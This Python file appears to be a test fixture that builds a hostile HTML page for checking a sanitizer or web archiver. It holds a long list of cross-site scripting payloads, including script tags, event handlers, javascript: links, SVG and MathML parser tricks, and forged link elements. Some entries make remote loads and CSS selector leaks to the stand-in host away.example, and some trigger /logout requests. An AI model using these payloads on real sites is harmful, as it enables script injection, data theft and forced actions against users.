"""A page that tries whatever pages try."""

AWAY = "http://away.example"

# What runs a script, asks for something or leads away, each in markup of its own.
VECTORS = [
    "<script>alert(1)</script>",
    f"<script src={AWAY}/x.js></script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)></svg>",
    "<svg><script>alert(4)</script></svg>",
    f"<svg><image href={AWAY}/5.png /><use href='{AWAY}/6.svg#a'/></svg>",
    "<svg><a href='javascript:alert(7)'><text y=20>drawn link</text></a></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(9)</script>'></iframe></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href='javascript:alert(10)'>sum</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(11)&gt;'>"
    "</mglyph></table></mtext></math>",
    "<body onload=alert(12) onpageshow=alert(13)>",
    f"<iframe src={AWAY}/frame></iframe>",
    "<iframe srcdoc='<script>parent.alert(14)</script>'></iframe>",
    "<iframe src='javascript:alert(15)'></iframe>",
    f"<object data={AWAY}/o.swf><embed src={AWAY}/e.swf></object>",
    f"<applet code={AWAY}/a.class></applet>",
    f"<video src={AWAY}/v.mp4 poster={AWAY}/p.png autoplay onplay=alert(16)></video>",
    f"<audio src={AWAY}/a.mp3 autoplay></audio>",
    f"<video><source src={AWAY}/s.mp4 onerror=alert(17)><track src={AWAY}/t.vtt default></video>",
    f"<link rel=stylesheet href={AWAY}/s.css>",
    f"<link rel=preload as=image href={AWAY}/pre.png><link rel=prefetch href={AWAY}/f>",
    f"<link rel=dns-prefetch href={AWAY}><link rel=preconnect href={AWAY}><link rel=manifest href={AWAY}/m>",
    f"<link rel=icon href={AWAY}/i.ico><link rel=import href={AWAY}/im.html>",
    f"<base href={AWAY}/><base target=_top>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(18)'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta http-equiv=set-cookie content='a=b'><meta charset=utf-7>",
    f"<form action={AWAY}/form id=f><input name=q autofocus onfocus=alert(19)><button>Send it</button></form>",
    "<button form=f formaction='javascript:alert(20)'>Form action</button>",
    f"<input type=image src={AWAY}/in.png formaction={AWAY}/fa>",
    "<form><isindex action='javascript:alert(21)' type=image></isindex></form>",
    "<a href='javascript:alert(22)'>a script's link</a>",
    "<a href='&#106;avascript:alert(23)'>a script's link in numbers</a>",
    "<a href=' java\tscript:alert(24)'>a script's link with a tab</a>",
    "<a href='data:text/html,<script>alert(25)</script>' target=_top>a link with data</a>",
    f"<a href={AWAY}/link target=_top ping={AWAY}/ping>a link away</a>",
    f"<a href={AWAY}/new target=_blank>a link to a window of its own</a>",
    f"<a href={AWAY}/file download>a download</a>",
    f"<map name=m><area href={AWAY}/area shape=default></map><img usemap=#m src={AWAY}/map.png>",
    f"<img src={AWAY}/1.png srcset='{AWAY}/2.png 2x, {AWAY}/3.png 3x'>",
    f"<picture><source srcset={AWAY}/4.png><img src={AWAY}/5.png lowsrc={AWAY}/l.png></picture>",
    f"<table background={AWAY}/bg.png><tr><td background={AWAY}/bg2.png>cell</td></tr></table>",
    f"<div style='background:url({AWAY}/css.png)'>styled</div>",
    f"<div style='background:u\\72l({AWAY}/css2.png)'>styled with an escape</div>",
    f"<div style='background:image-set(\"{AWAY}/css3.png\" 1x)'>styled by a set</div>",
    "<div style='width:expression(alert(26));behavior:url(#x);-moz-binding:url(x)'>old style</div>",
    f"<style>@import '{AWAY}/i1.css'; @import url({AWAY}/i2.css);</style>",
    f"<style>body{{background:url({AWAY}/s1.png)}}@font-face{{font-family:x;src:url({AWAY}/f.woff)}}*{{font-family:x}}</style>",
    f"<style>div::after{{content:url('{AWAY}/s2.png')}}li{{list-style:url(\"{AWAY}/s3.png\")}}</style>",
    "<style></style><img src=x onerror=alert(27)></style>",
    f"<style>a[href^='x']{{background:url({AWAY}/leak)}}input[value^=a]{{background:u\\000072l({AWAY}/leak2)}}</style>",
    "<style>p{content:'</style><img src=x onerror=alert(28)>'}</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(29)>'></p></noscript>",
    "<template><img src=x onerror=alert(30)></template>",
    "<textarea></textarea><img src=x onerror=alert(31)></textarea>",
    "<title></title><img src=x onerror=alert(32)></title>",
    "<xmp></xmp><img src=x onerror=alert(33)></xmp>",
    "<details open ontoggle=alert(34)><summary>opened</summary>words</details>",
    "<marquee onstart=alert(35) behavior=alternate>moving</marquee>",
    "<select onchange=alert(36) autofocus><option>one</select><keygen autofocus onfocus=alert(37)>",
    "<div contenteditable autofocus onfocus=alert(38) accesskey=x onclick=alert(39)>to be written in</div>",
    "<dialog open onclose=alert(40)>a dialog</dialog><div popover id=pop onbeforetoggle=alert(41)>a popover</div>",
    "<button popovertarget=pop>pops up</button><button command=show-popover commandfor=pop>commands</button>",
    "<x-el onclick=alert(42) is=x style='position:fixed;inset:0;z-index:99999'>"
    "<a href=javascript:alert(43)>over all</a></x-el>",
    "<p id=record-x data-ts-record=forged data-ts-kind=article class='ts-link'>a part that is none</p>",
    "<a class=ts-link href=javascript:alert(44) data-ts=article data-ts-label=Forged>a forged link</a>",
    "<p onmouseover=alert(45) onfocus=alert(46) tabindex=0>words with handlers</p>",
    "<!--[if IE]><script>alert(47)</script><![endif]--><!--><img src=x onerror=alert(48)>-->",
    '<p title="&quot;onmouseover=alert(49) x=&quot;" class=\'"><script>alert(50)</script>\'>quotes</p>',
    "<frameset onload=alert(51)><frame src='javascript:alert(52)'></frameset>",
    "<a href=//away.example/relative target=_top>without a scheme</a>",
    "<img src='/logout'><img src='/archived?url=x&page=y&at=z&key=w'><div style='background:url(/logout)'>ours</div>",
    "<portal src=http://away.example/portal></portal><fencedframe src=http://away.example/f></fencedframe>",
    "<p>\ud7ff\ufffe<b>the last one</b></p>",
]


def page() -> str:
    """All of them in an article, with comments."""
    prose = "<p>The ferry left late, and nobody on the quay knew why it did, not even the mate who had the keys.</p>"
    comments = "".join(
        f"<li class=comment id=comment-{n}><cite onclick=alert(60)>Ida {n}</cite>"
        f"<p>I was on the quay, for the {n}th time. <a href=javascript:alert(61)>look</a> {VECTORS[n]}</p></li>"
        for n in (2, 5, 12, 34)
    )
    body = "".join(prose + each for each in VECTORS)
    return (
        "<!DOCTYPE html><html onclick=alert(62)><head><title>Ferries</title></head><body><h1>Ferries</h1>"
        f"<div class=post-body>{prose * 6}{body}</div><ol class=comments>{comments}</ol>"
    )
